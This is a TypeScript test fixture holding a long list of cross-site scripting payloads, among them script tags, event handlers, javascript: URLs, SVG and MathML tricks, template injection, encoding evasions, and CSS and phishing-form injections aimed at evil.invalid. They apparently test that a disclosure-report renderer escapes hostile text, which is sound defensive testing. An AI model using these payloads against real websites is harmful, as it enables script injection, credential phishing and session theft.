/**
 * Hostile strings for the XSS tests (the elements: test/components/base/xss.test.ts; the static HTML:
 * test/static/html.test.mjs). Each one, if it ever ran as
 * script, would call the sentinel `window.__drXss()` (or set `window.__drXssHit`); the test
 * checks neither happened, that no element was injected, and that the string shows verbatim.
 *
 * Written for this project, grouped by vector. None starts or ends with whitespace, so a
 * renderer that trims text still has to show each one whole.
 */
import {huaian2024} from '../../src/examples/index.js';

const RUN = '__drXss()';
const SET = 'window.__drXssHit=1';

const scriptTags = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type="module">${RUN}</script>`,
  `</p><script>${RUN}</script><p>`,
  `</td></tr></table><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `<!--<script>-->${RUN}<!--</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
];

const eventHandlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${SET}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\u000c=${RUN}>`,
  `<body onload=${RUN}>`,
  `<div onmouseover="${RUN}">hover</div>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<marquee onstart=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<img src=x onerror="&#x5f;&#x5f;drXss()">`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `x" autofocus onfocus="${RUN}`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<body onpageshow=${RUN}>`,
];

const javascriptUrls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`, // a control character first: URL parsers strip it
  `java\tscript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `<a href="javascript:${RUN}">点击</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19kclhzcygpPC9zY3JpcHQ+">x</a>`,
  `vbscript:msgbox(1)`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
];

const svgAndMathMl = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><style>@import'javascript:${RUN}';</style></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
];

const templateInjection = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{ $on.constructor('${RUN}')() }}`,
  `\${${RUN}}`,
  `\${alert(document.domain)}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{7*7}}`,
  `[[${RUN}]]`,
  `{{#with "s" as |string|}}{{string.sub.apply 0 "${RUN}"}}{{/with}}`,
  `\`;${RUN};\``,
  `'+${RUN}+'`,
  `";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `{"__proto__":{"polluted":1}}`,
];

// Lit marks bindings with comments and attributes named after a random marker; a text that looks
// like one must stay text.
const litLookAlikes = [
  `<?lit$1234567890$>`,
  `<!--?lit$1234567890$-->`,
  `lit$1234567890$`,
  `<img src=x lit$123$=${RUN}>`,
  `<div lit$1234$="${RUN}">`,
  `<?lit$1$><img src=x onerror=${RUN}><?lit$1$>`,
  `$lit$`,
  `<!--lit-part-->${RUN}<!--/lit-part-->`,
  `{"_$litType$":1,"strings":["<img src=x onerror=${RUN}>"],"values":[]}`,
];

const unicodeAndEncoding = [
  `＜script＞${RUN}＜/script＞`, // fullwidth < >
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `\u202e>tpircs/<)(ssXrd__>tpircs<`, // right-to-left override
  `<scr\u200bipt>${RUN}</scr\u200bipt>`, // zero-width space
  `\u200d<img src=x onerror=${RUN}>\u200d`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `%253Cscript%253E${RUN}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<scri\u0000pt>${RUN}</scri\u0000pt>`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `\u0000<script>${RUN}</script>`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, // UTF-7
  `<\u0131mg src=x onerror=${RUN}>`, // dotless i
  `\ud83d\ude00<img src=x onerror=${RUN}>\ud83d\ude00`,
  `\udc00<script>${RUN}</script>\ud800`, // lone surrogates
  `e\u0301<svg onload=${RUN}>`,
  `x\u2028<script>${RUN}</script>\u2029x`,
  `<img src="x" onerror="${RUN}"\u3000>`,
];

const cssInjection = [
  `</style><style>*{display:none!important}</style>`,
  `<style>:host{display:none}</style>`,
  `x;background:url(javascript:${RUN})`,
  `expression(${RUN})`,
  `<div style="background:url('javascript:${RUN}')">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `}*{color:red}@import url(//evil.invalid/x.css);{`,
  `<link rel="stylesheet" href="//evil.invalid/x.css">`,
  `-moz-binding:url(//evil.invalid/xss.xml#x)`,
  `\\3c script\\3e ${RUN}`,
  `<div part="dr-root" style="position:fixed;inset:0;background:red">覆盖</div>`,
];

const otherHtml = [
  `<a href="https://evil.invalid/">官方链接</a>`,
  `<form action="https://evil.invalid/"><input name=p type=password></form>`,
  `<dialog open>请输入密码</dialog>`,
  `<slot name=x></slot><slot></slot>`,
  `<disclosure-report src="/evil.json"></disclosure-report>`,
  `<h1>伪造标题</h1>`,
  `<b>粗体</b><i>斜体</i>`,
  `<table><tr><td>伪造单元格</td></tr></table>`,
  `<p popover id=x>x</p><button popovertarget=x>x</button>`,
  `<img src="https://evil.invalid/track.gif">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
];

export const XSS_PAYLOADS: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...javascriptUrls,
  ...svgAndMathMl,
  ...templateInjection,
  ...litLookAlikes,
  ...unicodeAndEncoding,
  ...cssInjection,
  ...otherHtml,
];

export const XSS_CATEGORIES = {
  scriptTags: scriptTags.length,
  eventHandlers: eventHandlers.length,
  javascriptUrls: javascriptUrls.length,
  svgAndMathMl: svgAndMathMl.length,
  templateInjection: templateInjection.length,
  litLookAlikes: litLookAlikes.length,
  unicodeAndEncoding: unicodeAndEncoding.length,
  cssInjection: cssInjection.length,
  otherHtml: otherHtml.length,
};

/** The 淮安 report with `text` in every string field, in both shapes a text may take. */
export function reportWith(text: string): unknown {
  const both = {zh: text, en: text};
  const report = structuredClone(huaian2024) as unknown as Record<string, unknown>;
  return {
    ...report,
    agency: text,
    title: both,
    preamble: [text, both],
    overview: {
      paragraphs: [text],
      parts: [
        {title: text, paragraphs: [both]},
        {title: both, paragraphs: [text]},
      ],
    },
    problems: {paragraphs: [both]},
    otherMatters: {parts: [{title: both, paragraphs: [text]}]},
    proactive: {...huaian2024.proactive, notes: [text, both]},
    requests: {...huaian2024.requests, notes: [both]},
    appeals: {...huaian2024.appeals, notes: [text]},
    annotations: {
      'proactive.penalties': text,
      'requests.newReceived.total': both,
      'appeals.reconsideration.upheld': text,
    },
  };
}
